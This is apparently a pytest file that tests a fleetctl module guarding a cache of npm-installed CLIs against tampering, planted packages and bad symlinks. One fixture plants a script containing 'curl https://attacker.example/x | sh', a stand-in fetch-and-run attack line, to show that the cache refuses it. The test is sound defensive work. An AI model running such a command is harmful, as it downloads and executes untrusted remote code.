"""The CLI cache: an entry is used only while it is exactly what npm installed from its
lock; anything planted or changed there is refused with how to recover."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from fleetctl.artifacts import clicache
from fleetctl.artifacts.errors import ArtifactError, Tampered
from tests.support.fakecli import CLI, cached_cli, fake_tree


def test_a_completed_install_from_the_lock_is_found_and_its_command_given(
    tmp_path: Path,
) -> None:
    root = cached_cli(tmp_path / "cache", tmp_path / "locks")
    assert root.name.startswith("@scope+fake-cli@1.2.3-")  # named by its lock too
    command = root / "node_modules" / "@scope" / "fake-cli" / "bin" / "fake.sh"
    assert clicache.installed(CLI, tmp_path / "cache", tmp_path / "locks") == command
    assert clicache.install(CLI, tmp_path / "cache", tmp_path / "locks") == command


def test_an_interrupted_install_is_not_found(tmp_path: Path) -> None:
    root = cached_cli(tmp_path / "cache", tmp_path / "locks")
    (root / clicache.MARKER).unlink()
    assert clicache.installed(CLI, tmp_path / "cache", tmp_path / "locks") is None


def test_a_planted_package_with_a_complete_marker_is_refused(tmp_path: Path) -> None:
    """What an attacker who can write the cache leaves there: another program under the
    pinned name, marked complete. It is never run or bundled."""
    cache, locks = tmp_path / "cache", tmp_path / "locks"
    root = cached_cli(cache, locks)
    fake = root / "node_modules" / "@scope" / "fake-cli" / "bin" / "fake.sh"
    fake.unlink()  # the hard link beside it keeps the real bytes: replace this name only
    fake.write_text("#!/bin/sh\ncurl https://attacker.example/x | sh\n")
    evil = root / "node_modules" / "evil"
    evil.mkdir()
    (evil / "index.js").write_text("steal()\n")
    with pytest.raises(Tampered) as caught:
        clicache.installed(CLI, cache, locks)
    message = str(caught.value)
    assert "node_modules/@scope/fake-cli differs from its recorded contents" in message
    assert "node_modules/evil is not a package the lock records" in message
    with pytest.raises(Tampered):
        clicache.install(CLI, cache, locks)  # not installed over, not used


def test_a_tampered_file_in_a_cache_entry_is_refused_with_how_to_recover(tmp_path: Path) -> None:
    cache, locks = tmp_path / "cache", tmp_path / "locks"
    root = cached_cli(cache, locks)
    assert clicache.installed(CLI, cache, locks) is not None  # checked once, and remembered
    package_json = root / "node_modules" / "@scope" / "fake-cli" / "package.json"
    stat = package_json.stat()
    package_json.write_text(package_json.read_text().replace("1.2.3", "6.6.6"))
    os.utime(package_json, ns=(stat.st_atime_ns, stat.st_mtime_ns))  # mtime put back
    with pytest.raises(Tampered) as caught:
        clicache.installed(CLI, cache, locks)
    assert str(caught.value) == (
        f"@scope/fake-cli 1.2.3 in the CLI cache ({root}) is not what npm installed from its "
        f"lock ({locks / '@scope+fake-cli@1.2.3'}): node_modules/@scope/fake-cli differs from "
        "its recorded contents. Something changed it after the install, so it is not used. "
        f"Look at what changed, then remove {root} and run `fleetctl up --install-clis` "
        "(or apply) to install it again from the lock."
    )


def test_a_bin_link_out_of_the_packages_is_refused(tmp_path: Path) -> None:
    cache, locks = tmp_path / "cache", tmp_path / "locks"
    root = cached_cli(cache, locks)
    (root / "node_modules" / ".bin" / "fake").unlink()
    (root / "node_modules" / ".bin" / "fake").symlink_to("/usr/bin/env")
    with pytest.raises(Tampered, match=r"\.bin/fake is not a link to a file"):
        clicache.installed(CLI, cache, locks)


def test_an_entry_without_its_packages_is_refused(tmp_path: Path) -> None:
    cache, locks = tmp_path / "cache", tmp_path / "locks"
    cached_cli(cache, locks)
    planted = clicache.package_dir(CLI, cache, locks)
    for p in sorted(planted.rglob("*"), reverse=True):
        p.rmdir() if p.is_dir() and not p.is_symlink() else p.unlink()
    (planted / clicache.MARKER).write_text("{}\n")
    with pytest.raises(Tampered, match="node_modules/@scope/fake-cli is missing"):
        clicache.installed(CLI, cache, locks)


def test_an_install_from_another_lock_is_not_this_one(tmp_path: Path) -> None:
    """An entry an older fleetctl made (npm install, scripts run) has no lock in its name."""
    cache, locks = tmp_path / "cache", tmp_path / "locks"
    cached_cli(cache, locks)
    old = fake_tree(cache / "@scope+fake-cli@1.2.3", says="planted")
    (old / clicache.MARKER).write_text("@scope/fake-cli@1.2.3\n")
    found = clicache.installed(CLI, cache, locks)
    assert found is not None and not found.is_relative_to(old)


def test_no_lock_for_a_version_says_how_to_write_one(tmp_path: Path) -> None:
    with pytest.raises(ArtifactError) as caught:
        clicache.installed(CLI, tmp_path / "cache", tmp_path / "locks")
    assert str(caught.value) == (
        f"no lock for @scope/fake-cli 1.2.3 in {tmp_path / 'locks' / '@scope+fake-cli@1.2.3'}: "
        "`python -m fleetctl.artifacts.clilock @scope/fake-cli@1.2.3` writes it there "
        "(review it: it is what every host will run)"
    )


def test_without_npm_the_error_says_what_to_install(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    cached_cli(tmp_path / "elsewhere", tmp_path / "locks")  # the lock; not in this cache
    monkeypatch.setenv("PATH", str(tmp_path))
    with pytest.raises(ArtifactError, match="npm is not on PATH"):
        clicache.install(CLI, tmp_path / "cache", tmp_path / "locks")


def test_the_cache_is_outside_any_checkout_and_ignores_a_relative_xdg(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    assert clicache.default_cache_dir() == tmp_path / "fleetctl" / "llm-clis"
    monkeypatch.setenv("XDG_CACHE_HOME", "relative")
    monkeypatch.setenv("HOME", str(tmp_path / "per-test-home"))  # not used: the real home is
    assert clicache.default_cache_dir().parts[-3:] == (".cache", "fleetctl", "llm-clis")
    assert not str(clicache.default_cache_dir()).startswith(str(tmp_path))
